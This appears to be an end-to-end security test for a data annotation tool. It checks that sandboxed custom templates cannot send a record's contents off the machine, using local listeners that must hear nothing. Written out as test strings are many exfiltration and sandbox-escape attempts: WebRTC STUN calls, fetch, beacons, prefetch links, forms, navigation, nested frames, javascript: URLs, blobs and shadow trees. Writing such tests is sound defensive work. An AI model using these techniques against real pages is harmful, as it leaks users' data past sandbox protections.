/**
 * An advanced template can read the record, but must not be able to send it anywhere: the test listens on this machine and
 * receives nothing.
 */
import { createSocket } from 'node:dgram'
import { createServer, type Server } from 'node:net'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { currentRecord, openDataset } from './annotation-page.ts'
import { page, takeDesk, world } from './desk.ts'
import { label, seed } from './seed.ts'

takeDesk({
  as: 'annotator',
  each: 'new',
  allow: [/Content Security Policy|sandbox|Blocked|is not a|undefined|leaves the origin|Failed to fetch/i],
})

const udp = createSocket('udp4')
/** Receives calls of the page, which prove that calls arrive on this machine. */
const control = createSocket('udp4')
let controls = 0
let tcp: Server
/** Received datagrams and TCP data. */
const heard: string[] = []
let address = ''
beforeAll(async () => {
  udp.on('message', () => heard.push('datagram'))
  control.on('message', () => controls++)
  for (const socket of [udp, control]) await new Promise<void>(resolve => socket.bind(0, '127.0.0.1', resolve))
  tcp = createServer(socket => socket.on('data', data => heard.push(data.toString('latin1').slice(0, 40))).on('error', () => {}))
  await new Promise<void>(resolve => tcp.listen(0, '127.0.0.1', resolve))
  const { port } = tcp.address() as { port: number }
  address = `127.0.0.1:${port}`
})
afterAll(() => {
  udp.close()
  control.close()
  tcp.close()
})

/** As source text, because it runs in the page, in templates, and in frames that templates create. */
const call = ({ scope = 'window', urls = `stun:127.0.0.1:${udp.address().port}` } = {}) =>
  `(() => { const c = new ${scope}.RTCPeerConnection({ iceServers: [{ urls: '${urls}' }] }); c.createDataChannel('x'); ` +
  `c.createOffer().then(offer => c.setLocalDescription(offer)) })()`
const asAttribute = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;')
const asText = (text: string) => JSON.stringify(text).replaceAll('<', '\\x3c')

/**
 * Shows a template that runs a script and then reports that it ran. The script may fail or navigate its frame away, but must not
 * reach the network.
 */
async function show(name: string, script: string, markup = '') {
  heard.length = 0
  const template = `${markup}<b id="out"></b><script>try { ${script} } catch (error) { out.title = error.name }
    setTimeout(() => { out.textContent = 'tried' }, 50)</script>`
  const id = await seed(world, {
    name,
    fields: [{ name: 'card', title: 'Card', required: true, settings: { type: 'custom', template, advanced_mode: true } }],
    questions: [label('mood', ['good', 'bad'])],
    records: [{ fields: { card: { secret: 'words' } } }],
  })
  await openDataset(page, id)
}
const out = () => currentRecord(page).frameLocator('iframe').locator('#out')
const hasTried = () => expect.poll(() => out().textContent()).toBe('tried')
/** Waits until a call of the page arrives, so that anything a template sent before it has arrived too. */
async function isQuiet() {
  controls = 0
  await page.evaluate(call({ urls: `stun:127.0.0.1:${control.address().port}` }))
  await expect.poll(() => controls).toBeGreaterThan(0)
  expect(heard).toEqual([])
}

describe('WebRTC', () => {
  test('is not there for a template', async () => {
    const names = ['RTCPeerConnection', 'webkitRTCPeerConnection', 'RTCDataChannel', 'WebTransport', 'WebSocket', 'EventSource']
    await show('direct', `out.dataset.found = ${JSON.stringify(names)}.filter(name => window[name]).join(); ${call()}`)
    await hasTried()
    await expect.poll(() => out().getAttribute('data-found')).toBe('')
    await isQuiet()
  })

  const nested = (): [string, string, string?][] => {
    const inner = `<script>${call()}</script>`
    const frame = `const f = document.createElement('iframe');`
    return [
      ['a new frame', `${frame} document.body.append(f); ${call({ scope: 'f.contentWindow' })}`],
      [
        'a frame by its number',
        `document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); ${call({ scope: 'window[0]' })}`,
      ],
      ['a frame in the markup', call({ scope: 'window[0]' }), '<iframe></iframe>'],
      ['a document in an attribute', `${frame} f.srcdoc = ${asText(inner)}; document.body.append(f)`],
      ['a document in the markup', '', `<iframe srcdoc="${asAttribute(inner)}"></iframe>`],
      ['a script address', `${frame} f.src = ${asText(`javascript:${call()}`)}; document.body.append(f)`],
      ['a script address in the markup', '', `<iframe src="javascript:${asAttribute(call())}"></iframe>`],
      [
        'a blob in a frame',
        `${frame} f.src = URL.createObjectURL(new Blob([${asText(inner)}], { type: 'text/html' })); document.body.append(f)`,
      ],
      [
        'an object',
        `const o = document.createElement('object'); o.data = 'about:blank'; document.body.append(o); ${call({ scope: 'o.contentWindow' })}`,
      ],
      [
        'an embedded page',
        `const e = document.createElement('embed'); e.src = 'about:blank'; document.body.append(e); ${call({ scope: 'window[0]' })}`,
      ],
      [
        'a set of frames',
        `const s = document.createElement('frameset'); s.append(document.createElement('frame')); document.documentElement.append(s); ${call({ scope: 'window[0]' })}`,
      ],
      [
        'a shadow tree',
        `const r = out.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' }); r.innerHTML = ${asText(`<iframe srcdoc="${asAttribute(inner)}"></iframe>`)}`,
      ],
      [
        'a copy of a shadow tree',
        `const h = document.createElement('div'); const r = h.attachShadow({ mode: 'open', clonable: true }); r.innerHTML = ${asText(`<iframe srcdoc="${asAttribute(inner)}"></iframe>`)}; document.body.append(h.cloneNode(true))`,
      ],
      [
        'a shadow tree in the markup',
        '',
        `<div><template shadowrootmode="closed"><iframe srcdoc="${asAttribute(inner)}"></iframe></template></div>`,
      ],
      [
        'a shadow tree written in pieces',
        `document.write('<div><template shadowroot'); document.write('mode=closed>' + ${asText(`<iframe srcdoc="${asAttribute(inner)}"></iframe></template></div>`)})`,
      ],
      [
        'markup that is not sanitized',
        `document.body.appendChild(document.createElement('p')).setHTMLUnsafe(${asText(`<div><template shadowrootmode="closed"><iframe srcdoc="${asAttribute(inner)}"></iframe></template></div>`)})`,
      ],
      ['a window', `const w = window.open('about:blank'); ${call({ scope: 'w' })}`],
    ]
  }
  test('cannot be reached through frames, objects, shadow trees or windows of a template', async () => {
    for (const [name, script, markup] of nested()) {
      await show(name, script, markup)
      await hasTried()
      await expect.poll(() => page.frames().length, { message: name }).toBe(2)
      expect({ name, heard }).toEqual({ name, heard: [] })
    }
    await isQuiet()
  })

  test('cannot be reached by a document that a template moves its frame to', async () => {
    const inner = `<script>${call()}</script>`
    await show('blob', `location = URL.createObjectURL(new Blob([${asText(inner)}], { type: 'text/html' }))`)
    await currentRecord(page).locator('iframe').waitFor()
    await expect.poll(() => page.frames().some(frame => /chrome-error|frame-/.test(frame.url()))).toBe(true)
    await isQuiet()
  })
})

test('requests, forms, links and navigation send nothing', async () => {
  const url = () => `http://${address}/?words`
  const tries: [string, string][] = [
    ['fetch', `fetch('${url()}', { mode: 'no-cors' })`],
    ['XMLHttpRequest', `const x = new XMLHttpRequest(); x.open('GET', '${url()}'); x.send()`],
    ['beacon', `navigator.sendBeacon('${url()}', 'words')`],
    ['ping', `const a = document.createElement('a'); a.href = '#x'; a.ping = '${url()}'; document.body.append(a); a.click()`],
    ['image', `new Image().src = '${url()}'`],
    [
      'style',
      `document.head.append(Object.assign(document.createElement('style'), { textContent: '@import "${url()}"; b { background: url(${url()}) }' }))`,
    ],
    ['script', `document.head.append(Object.assign(document.createElement('script'), { src: '${url()}' }))`],
    ['module', `import('${url()}')`],
    ['worker', `new Worker(URL.createObjectURL(new Blob(["fetch('${url()}')"])))`],
    ...['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest'].map(
      (rel): [string, string] => [
        `link ${rel}`,
        `document.head.append(Object.assign(document.createElement('link'), { rel: '${rel}', as: 'image', href: '${url()}' }))`,
      ],
    ),
    [
      'speculation rules',
      `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: '{"prefetch":[{"urls":["${url()}"]}]}' }))`,
    ],
    [
      'form',
      `const f = document.body.appendChild(document.createElement('form')); f.action = '${url()}'; f.method = 'post'; f.submit()`,
    ],
    ['window', `window.open('${url()}')`],
    ['top', `top.location = '${url()}'`],
  ]
  await show('requests', tries.map(([, script]) => `try { ${script} } catch {}`).join(';'))
  await hasTried()
  await isQuiet()
  for (const [name, script] of [
    ['location', `location = '${url()}'`],
    ['link', `const a = document.createElement('a'); a.href = '${url()}'; document.body.append(a); a.click()`],
    [
      'refresh',
      `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=${url()}' }))`,
    ],
  ] as const) {
    await show(name, script)
    await expect.poll(() => page.frames().some(frame => frame.url().startsWith('chrome-error:'))).toBe(true)
    await isQuiet()
  }
})
